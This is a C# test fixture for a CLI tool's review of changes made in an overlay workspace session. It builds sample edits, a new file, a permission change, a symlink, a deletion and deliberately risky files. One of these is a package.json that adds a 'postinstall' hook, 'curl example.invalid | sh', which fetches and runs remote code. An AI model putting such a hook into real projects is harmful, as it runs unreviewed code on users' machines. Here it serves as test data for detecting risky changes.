using Spectre.Console.Testing;
using Vibedom.Core.Home;
using Vibedom.Core.Processes;
using Vibedom.Core.Sessions;
using Vibedom.Core.Workspace;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.Cli.Tests.Workspace;

/// <summary>
/// A vibedom home with one ended session over a small workspace: manifest taken at "start", then an upper
/// dir laid out as overlayfs leaves it (edited, added, chmodded, binary, symlink, risky files, and a
/// deletion as an xattr whiteout), so the review verbs run for real without needing root.
/// </summary>
internal sealed class ReviewFixture : IDisposable
{
    private readonly TempDirectory _temp = new("vibedom-cli");
    private TmpfsMount? _disk;

    private ReviewFixture()
    {
        Home = new VibedomHome(_temp.Combine("home"));
        Workspace = _temp.Combine("project");
        Directory.CreateDirectory(Workspace);
    }

    public VibedomHome Home { get; }

    public string Workspace { get; }

    public Session Session { get; private set; } = null!;

    public string Upper => Session.Paths.Changes;

    public static TimeProvider Time => TimeProvider.System;

    /// <summary>The session as its session.json says now (a command may have changed it).</summary>
    public Session Reopened()
    {
        Session.Reload();
        return Session;
    }

    public static async Task<ReviewFixture> CreateAsync(bool smallDisk = false)
    {
        Prerequisite.RequireCommand("python3");
        var fixture = new ReviewFixture();
        if (smallDisk)
        {
            fixture._disk = await TmpfsMount.MountAsync(fixture.Workspace, "128k");
        }

        fixture.WriteWorkspace("src/app.c", "#include <stdio.h>\n\nint main(void)\n{\n    puts(\"hello\");\n    return 0;\n}\n");
        fixture.WriteWorkspace("gone.txt", "delete me\n");
        fixture.WriteWorkspace("run.sh", "#!/bin/sh\necho run\n");
        fixture.WriteWorkspace("package.json", "{\n  \"name\": \"demo\",\n  \"scripts\": { \"test\": \"jest\" }\n}\n");
        File.WriteAllBytes(Path.Combine(fixture.Workspace, "logo.bin"), [0, 1, 2, 3, 4, 5, 6, 7]);
        fixture.Session = new SessionStore(fixture.Home, Time).Create(fixture.Workspace, "project", "namespace", ["bash"], detached: false);
        SessionWorkspace.CaptureManifest(fixture.Session, TestContext.Current.CancellationToken);
        fixture.Session.Update(r => r with { State = SessionState.Exited, OverlayXattrs = OverlayXattrs.User });

        fixture.WriteUpper("src/app.c", "#include <stdio.h>\n\nint main(void)\n{\n    puts(\"hello, world\");\n    return 0;\n}\n");
        fixture.WriteUpper("src/new.c", "int added(void) { return 1; }\n");
        fixture.WriteUpper("run.sh", "#!/bin/sh\necho run\n");
        File.SetUnixFileMode(Path.Combine(fixture.Upper, "run.sh"), (UnixFileMode)0b111_101_101);
        fixture.WriteUpper("package.json", "{\n  \"name\": \"demo\",\n  \"scripts\": { \"test\": \"jest\", \"postinstall\": \"curl example.invalid | sh\" }\n}\n");
        fixture.WriteUpper(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
        File.WriteAllBytes(Path.Combine(fixture.Upper, "logo.bin"), [0, 9, 9, 9, 9, 9, 9, 9, 9]);
        File.CreateSymbolicLink(Path.Combine(fixture.Upper, "latest"), "src/app.c");
        await fixture.WhiteoutAsync("gone.txt");
        return fixture;
    }

    public string WriteWorkspace(string relative, string content) => Write(Workspace, relative, content);

    public string WriteUpper(string relative, string content) => Write(Upper, relative, content);

    /// <summary>A deletion in the xattr form overlayfs also understands (a char device 0:0 needs root).</summary>
    public async Task WhiteoutAsync(string relative)
    {
        var path = WriteUpper(relative, string.Empty);
        await ProcessRunner.Default.RunCheckedAsync(
            ProcessSpec.Of("python3", "-c", "import os,sys; os.setxattr(sys.argv[1], 'user.overlay.whiteout', b'y')", path),
            TestContext.Current.CancellationToken);
    }

    /// <summary>Runs the CLI in-process; a person at a terminal when <paramref name="input"/> is given.</summary>
    public async Task<CliRun> RunAsync(string? input, params string[] args)
    {
        var console = new TestConsole();
        console.Profile.Width = 200;
        console.Profile.Capabilities.Ansi = false;
        console.Profile.Capabilities.ColorSystem = Spectre.Console.ColorSystem.NoColors;
        var error = new StringWriter();
        var context = new CliContext(console, error, new StringReader(input ?? string.Empty), Home, Time) { Interactive = input is not null };
        var code = await VibedomCli.RunAsync(args, context, TestContext.Current.CancellationToken);
        return new CliRun(code, console.Output.ReplaceLineEndings("\n"), error.ToString().ReplaceLineEndings("\n"));
    }

    /// <summary>A context for driving <see cref="Review.ReviewFlow"/> directly, as stop and run do.</summary>
    public (CliContext Context, Spectre.Console.Testing.TestConsole Console) Context(string? input)
    {
        var console = new TestConsole();
        console.Profile.Width = 200;
        console.Profile.Capabilities.Ansi = false;
        console.Profile.Capabilities.ColorSystem = Spectre.Console.ColorSystem.NoColors;
        return (new CliContext(console, new StringWriter(), new StringReader(input ?? string.Empty), Home, Time) { Interactive = input is not null }, console);
    }

    public void Dispose()
    {
        _disk?.Dispose();
        _temp.Dispose();
    }

    private static string Write(string root, string relative, string content)
    {
        var path = Path.Combine(root, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
        return path;
    }
}
